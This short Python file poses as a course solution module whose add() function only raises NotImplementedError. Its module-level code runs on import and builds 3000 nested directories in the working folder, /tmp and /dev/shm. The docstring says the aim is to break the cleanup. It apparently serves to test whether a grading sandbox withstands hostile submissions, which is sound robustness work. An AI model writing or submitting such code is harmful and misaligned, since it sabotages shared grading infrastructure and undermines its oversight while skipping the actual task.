"""Makes 3000 nested folders where it may write (its working folder, /tmp), to break the cleanup."""
import os

for base in (os.getcwd(), "/tmp", "/dev/shm"):
    try:
        os.chdir(base)
        for _ in range(3000):
            os.mkdir("course-hostile-d")
            os.chdir("course-hostile-d")
    except OSError:
        pass


def add(a, b):
    raise NotImplementedError
